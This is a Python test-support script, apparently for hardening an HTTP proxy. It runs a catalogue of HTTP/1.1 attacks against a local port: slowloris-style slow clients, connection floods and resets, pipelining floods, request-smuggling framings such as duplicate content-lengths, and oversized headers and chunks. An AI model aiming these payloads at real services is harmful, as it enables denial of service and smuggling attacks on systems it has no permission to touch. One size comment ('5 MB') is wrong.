"""Attacks on HTTP/1.1, as bytes that connections send and read. Run it as `python -m support.attacks NAME PORT SECONDS`."""

import json
import os
import socket
import struct
import sys
import time
from contextlib import suppress
from dataclasses import dataclass

from support.http_messages import BODY, CHUNKED, H2C, LAST_CHUNK, LINES, chunk, get, head, post

# Another address than that of the ordinary callers, because the proxies limit connections and requests of an address.
SOURCE = "127.0.0.2"
NICE = 10  # the attackers of a real service have their own processors
MAX_BODY = 2 << 20
MANY = 64
TURN_S = 0.002
RESET = struct.pack("ii", 1, 0)

PROBE = get(start=b"GET /health/live HTTP/1.1")
LARGE_ANSWER = json.dumps({"inputs": ["[MASK] " * 64] * 2, "parameters": {"top_k": 70}}).encode()  # 5 MB


@dataclass(frozen=True)
class Attack:
    """The behavior of each connection of an attacker. A connection that the proxy closes is opened again.

    Attributes:
        first: Bytes that are sent first.
        then: Bytes that are sent repeatedly afterwards.
        connections: Number of connections at the same time.
        then_every_s: Seconds between two times of `then`; 0 for as often as the proxy reads it.
        reads: Bytes that are read per turn; 0 for none.
        half_closes: Close the sending half after `first`.
        resets: Reset the connection after `first`, without reading an answer.
    """

    first: bytes = b""
    then: bytes = b""
    connections: int = 1
    then_every_s: float = 0.0
    reads: int = 1 << 16
    half_closes: bool = False
    resets: bool = False


CHUNKED_HEAD = head(CHUNKED)
STREAM = head(CHUNKED, LINES)
TRAILERS = b"authorization: Bearer b\r\nx-forwarded-for: 192.0.2.1\r\n"

ATTACKS = {
    # slow clients
    "slow heads": Attack(b"POST /classify HTTP/1.1\r\nhost: t\r\nx: ", b"y", MANY, 0.1),
    "slow bodies": Attack(head(b"content-length: 1000000"), b" ", MANY, 0.1),
    "bodies without their last byte": Attack(post(body=b" " * MAX_BODY)[:-1], connections=MANY),
    "chunked bodies without their last byte": Attack(CHUNKED_HEAD + chunk(b" " * (MAX_BODY - 9)), connections=MANY),
    "lines without their last byte": Attack(STREAM + chunk(BODY + b"\n") + b"%x\r\n" % MAX_BODY + b" " * (MAX_BODY - 1), connections=MANY),
    "bodies that wait for 100 Continue": Attack(head(b"expect: 100-continue", b"content-length: 9"), connections=MANY),
    "slow readers of a large answer": Attack(post(body=LARGE_ANSWER, path=b"/fill-mask"), connections=MANY, reads=64),
    "pipelined requests that are not read": Attack(then=post() * 1000, reads=0),
    "documents that are not read": Attack(then=get(start=b"GET /openapi.json HTTP/1.1"), connections=MANY, reads=0),
    "slow readers of a stream": Attack(STREAM, chunk((BODY + b"\n") * 2000), 8, reads=64),
    # connections
    "silent connections": Attack(connections=500),
    "connections that are reset": Attack(connections=MANY, resets=True),
    "requests that are reset": Attack(post(), connections=MANY, resets=True),
    "half-closed connections": Attack(post(), connections=MANY, half_closes=True),
    "half-closed requests": Attack(head(b"content-length: 9"), connections=MANY, half_closes=True),
    "many connections": Attack(then=PROBE, connections=500),
    # pipelining
    "pipelined probes": Attack(then=PROBE * 5000),
    "pipelined requests": Attack(then=post() * 1000, connections=16),
    "pipelined wrong paths": Attack(then=post(body=b"", path=b"/nowhere") * 1000, connections=MANY),
    "bytes after the last answer": Attack(head(b"content-length: 0", b"connection: close"), bytes(1 << 20)),
    # framing
    "a megabyte of trailers": Attack(then=CHUNKED_HEAD + chunk(BODY) + b"0\r\n" + b"x: y\r\n" * 170_000 + b"\r\n"),
    "trailers without an end": Attack(CHUNKED_HEAD + chunk(BODY) + b"0\r\n", b"x: y\r\n" * 10_000),
    "trailers with a key": Attack(then=CHUNKED_HEAD + chunk(BODY) + b"0\r\n" + TRAILERS + b"\r\n"),
    "chunks of one byte": Attack(CHUNKED_HEAD, b"1\r\n \r\n" * 10_000),
    "chunk extensions": Attack(CHUNKED_HEAD, b"1;" + b"a=b;" * 2000 + b"\r\n \r\n"),
    "one long chunk extension": Attack(CHUNKED_HEAD + b"1;", b"a=b;" * 10_000),
    "a chunk size of many zeros": Attack(CHUNKED_HEAD, b"0" * 100_000),
    "chunks over the limit": Attack(CHUNKED_HEAD, chunk(b" " * (1 << 20))),
    "bodies over the limit": Attack(head(b"content-length: 999999999999"), bytes(1 << 20), 16),
    "length and chunks": Attack(then=head(b"content-length: 5", CHUNKED) + LAST_CHUNK + PROBE),
    "two lengths": Attack(then=head(b"content-length: 17", b"content-length: 0") + BODY),
    "upgrades to h2c": Attack(then=post(*H2C)),
    # heads
    "a head without an end": Attack(b"GET / HTTP/1.1\r\nhost: t\r\n", b"x: y\r\n" * 10_000),
    "6,000 headers": Attack(then=get(*[b"a: b"] * 6000)),
    "a header of a megabyte": Attack(then=get(b"x: " + b"y" * (1 << 20))),
    "long paths": Attack(then=get(start=b"GET /" + b"x/" * 10_000 + b" HTTP/1.1")),
    "not HTTP": Attack(then=bytes(range(256)) * 4096),
    # streams of JSON Lines
    "a stream of blank lines": Attack(STREAM, chunk(b"\n " * 100_000), 16),
    "a stream of wrong lines": Attack(STREAM, chunk(b"ab\n" * 100_000), 16),
    "a stream of short texts": Attack(STREAM, chunk((BODY + b"\n") * 2000), 16),
    "a stream in chunks of one byte": Attack(STREAM, b"1\r\n1\r\n1\r\n\n\r\n" * 10_000, 16),
}


class Connection:
    def __init__(self, attack: Attack, port: int) -> None:
        self._attack, self._port = attack, port
        self._socket: socket.socket | None = None
        self._unsent = memoryview(b"")
        self._next_s = 0.0

    def turn(self) -> None:
        """Sends and reads what the other side accepts without waiting."""
        try:
            if self._socket is None:
                self._socket = self._open()
                self._unsent = memoryview(self._attack.first)
            with suppress(BlockingIOError):
                self._send(self._socket)
            with suppress(BlockingIOError):
                if self._ends() or (self._attack.reads and not self._socket.recv(self._attack.reads)):
                    self._close()
        except OSError:  # closed or refused
            self._close()

    def _send(self, connection: socket.socket) -> None:
        if not self._unsent and self._attack.then and time.monotonic() >= self._next_s:
            self._unsent = memoryview(self._attack.then)
            self._next_s = time.monotonic() + self._attack.then_every_s
        if self._unsent:
            self._unsent = self._unsent[connection.send(self._unsent) :]
            if self._attack.half_closes and not self._unsent:
                connection.shutdown(socket.SHUT_WR)

    def _ends(self) -> bool:
        """Returns whether the attacker itself closes the connection now."""
        if self._socket is None or not self._attack.resets or self._unsent:
            return False
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        return True

    def _open(self) -> socket.socket:
        connection = socket.socket()
        if self._attack.reads < 1 << 16:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.bind((SOURCE, 0))
        connection.connect(("127.0.0.1", self._port))
        connection.setblocking(False)
        return connection

    def _close(self) -> None:
        if self._socket is not None:
            self._socket.close()
        self._socket = None


def main() -> None:
    name, port, seconds = sys.argv[1:]
    os.nice(NICE)
    attack = ATTACKS[name]
    connections = [Connection(attack, int(port)) for _ in range(attack.connections)]
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for connection in connections:
            connection.turn()
        time.sleep(TURN_S)


if __name__ == "__main__":
    main()
